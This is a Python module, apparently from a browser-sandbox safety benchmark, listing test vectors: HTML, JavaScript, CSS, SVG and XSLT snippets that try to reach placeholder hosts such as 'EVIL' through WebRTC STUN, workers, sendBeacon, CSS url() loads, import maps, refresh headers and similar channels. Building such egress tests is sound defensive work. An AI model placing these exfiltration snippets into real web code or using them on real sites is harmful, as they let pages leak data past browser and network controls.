"""More ways out that pages have: the same exits from documents, workers and windows that are made in other ways. Words as in `vectors`."""

from __future__ import annotations

from handeye.benchmarks.safety.hosts.vectors import BUTTON, STUN_BY_UDP, Vector, button, script

_STUN_HERE = STUN_BY_UDP + "(globalThis.RTCPeerConnection)"
_STUN_PAGE = {"in": ("text/html", script(_STUN_HERE))}
_XSLT = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/">'
    f"<html><body><script>{_STUN_HERE.replace('=>', '=&gt;')}</script></body></html></xsl:template></xsl:stylesheet>"
)
_STYLED = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/TAG/s.xsl"?><a/>'
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{_STUN_HERE}]]></script></svg>'
_BACK = f"if(!sessionStorage.TAG){{sessionStorage.TAG=1;setTimeout(()=>location='/TAG/in',300)}}else {_STUN_HERE}"
_LAST_WORDS = (
    "onpagehide=onvisibilitychange=onunload=()=>{fetch('EVIL',{keepalive:true,mode:'no-cors',method:'POST',body:'x'});"
    "navigator.sendBeacon('EVIL','x')};setTimeout(()=>close(),200)"
)
_STYLE = (
    "ul{list-style:url(EVIL)}b{border-image:url(EVIL);background:image-set('EVIL' 1x);mask-image:url(EVIL);shape-outside:url(EVIL)}"
    "p::before{content:url(EVIL)}"
)
_SHAPES = (
    "<svg><use href='EVIL#a'/><filter id=f><feImage href='EVIL'/></filter><rect width=9 height=9 filter='url(#f)' fill='url(EVIL#p)'"
    " style='mask:url(EVIL#m);clip-path:url(EVIL#c)'/><script href='EVIL'></script></svg>"
)
_PLAYLIST = '#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="EVIL"\n#EXTINF:1,\nEVIL\n'


def _stun(name: str, html: str, click: bool = False, files: dict[str, tuple[str, str]] | None = None) -> Vector:
    return Vector(32, f"STUN from {name}", html, click, slow=True, files=_STUN_PAGE if files is None else files)


def _written(code: str) -> str:
    """A page with `code`, as text in a script's quotes."""
    return script(code).replace("</", "<\\/")


CORNERS = (
    _stun("a sandboxed frame", f'<iframe sandbox="allow-scripts" srcdoc="{script(_STUN_HERE)}"></iframe>'),
    _stun(
        "a blob", "<iframe id=i></iframe>" + script(f"i.src=URL.createObjectURL(new Blob([`{_written(_STUN_HERE)}`],{{type:'text/html'}}))")
    ),
    _stun("a data: frame", "<iframe id=i></iframe>" + script(f"i.src='data:text/html,'+encodeURIComponent(`{_written(_STUN_HERE)}`)")),
    _stun("a frame written anew", "<iframe id=i></iframe>" + script(f"var d=i.contentDocument;d.open();d.write(`{_written(_STUN_HERE)}`)")),
    _stun("a frame of another host", "<iframe src='LOGIN/TAG/in'></iframe>"),
    _stun("a drawing", "<iframe src='/TAG/in'></iframe>", files={"in": ("image/svg+xml", _SVG)}),
    _stun("what XSLT made", "<iframe src='/TAG/in'></iframe>", files={"in": ("text/xml", _STYLED), "s.xsl": ("text/xsl", _XSLT)}),
    _stun("an object", "<object data='/TAG/in' type='text/html'></object>"),
    _stun("a popup without opener", button("window.open('/TAG/in','_blank','noopener')"), click=True),
    _stun("a popup of another host", button("window.open('LOGIN/TAG/in')"), click=True),
    _stun(
        "a window in the picture",
        button(f"documentPictureInPicture.requestWindow().then(w=>{STUN_BY_UDP}(w.RTCPeerConnection))"),
        click=True,
    ),
    _stun(
        "a frame in a frame of the same tick",
        "<iframe id=i></iframe>"
        + script(
            "var j=i.contentDocument.createElement('iframe');i.contentDocument.documentElement.append(j);"
            + STUN_BY_UDP
            + "(j.contentWindow.RTCPeerConnection)"
        ),
    ),
    _stun("a page that was left", script(_BACK), files={"in": ("text/html", script("onload=()=>setTimeout(()=>history.back(),200)"))}),
    Vector(
        33,
        "WebTransport in a shared worker",
        script("new SharedWorker('/TAG/w.js')"),
        slow=True,
        files={"w.js": ("text/javascript", "new WebTransport('EVILTLS')")},
    ),
    Vector(28, "WebSocket in a worker out of data:", script("new Worker('data:text/javascript,new WebSocket(%22EVILWS%22)')")),
    Vector(28, "WebSocketStream", script("self.WebSocketStream&&new WebSocketStream('EVILWS')")),
    Vector(
        34,
        "Link header",
        "x",
        slow=True,
        headers={"Link": "<EVIL>; rel=preload; as=script, <EVIL>; rel=preconnect, <EVIL>; rel=modulepreload"},
    ),
    Vector(34, "shapes and filters", _SHAPES),
    Vector(34, "more of CSS", f"<style>{_STYLE}</style><ul><li>x</ul><b style='display:block'>x</b><p>p</p>"),
    Vector(34, "worklet", script("new AudioContext().audioWorklet.addModule('EVIL').catch(()=>0)")),
    Vector(34, "module worker", script("new Worker('data:text/javascript,import(%22EVIL%22)',{type:'module'})")),
    Vector(34, "shared worker out of data:", script("new SharedWorker('data:text/javascript,fetch(%22EVIL%22)')")),
    Vector(34, "import map", '<script type=importmap>{"imports":{"x":"EVIL"}}</script><script type=module>import "x"</script>'),
    Vector(
        34, "playlist", "<video src='/TAG/a' autoplay muted></video>", slow=True, files={"a": ("application/vnd.apple.mpegurl", _PLAYLIST)}
    ),
    Vector(34, "base", "<base href='EVIL'><img src=x><script src=y></script><iframe src=z></iframe>"),
    Vector(34, "cache", script("caches.open('x').then(c=>c.add('EVIL')).catch(()=>0)")),
    Vector(34, "embedded PDF", "<embed src='EVIL' type='application/pdf'><object data='EVIL' type='application/pdf'></object>"),
    Vector(
        30,
        "last words of a popup",
        button("window.open('/TAG/in')"),
        click=True,
        slow=True,
        files={"in": ("text/html", script(_LAST_WORDS))},
    ),
    Vector(
        30,
        "fetchLater of a popup",
        button("window.open('/TAG/in')"),
        click=True,
        slow=True,
        files={"in": ("text/html", script("self.fetchLater&&fetchLater('EVIL');setTimeout(()=>close(),200)"))},
    ),
    Vector(5, "meta refresh with a comma", "<iframe srcdoc=\"<meta http-equiv=REFRESH content='0,EVIL'>\"></iframe>"),
    Vector(36, "embed of the loading list", "<embed src='CDN/doc/TAG' type='text/html'>"),
    Vector(36, "refresh to the loading list", "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=CDN/doc/TAG'>\"></iframe>"),
    Vector(36, "Refresh header to the loading list", "x", headers={"Refresh": "0;url=CDN/doc/TAG"}),
    Vector(
        36,
        "sandboxed frame of the loading list",
        "<iframe sandbox src='CDN/doc/TAG'></iframe><iframe credentialless src='CDN/doc/TAG'></iframe>",
    ),
    Vector(
        36, "form sent on to the loading list", "<form id=f method=post action='/r/307?u=CDN%2Fdoc%2FTAG'></form>" + script("f.submit()")
    ),
    Vector(36, "navigation.navigate to the loading list", script("navigation.navigate('CDN/doc/TAG')")),
    Vector(36, "named frame of the loading list", "<iframe name=q></iframe><a id=a target=q href='CDN/doc/TAG'></a>" + script("a.click()")),
    Vector(
        36,
        "link in a frame to the loading list",
        f"<iframe style='{BUTTON}' srcdoc=\"<a style='position:absolute;inset:0' target=_blank href='CDN/doc/TAG'>x</a>\"></iframe>",
        click=True,
    ),
    Vector(
        36,
        "prefetched document of the loading list",
        '<script type=speculationrules>{"prefetch":[{"urls":["CDN/doc/TAG"],"eagerness":"immediate"}]}</script>'
        + script("setTimeout(()=>location='CDN/doc/TAG',600)"),
        slow=True,
    ),
)
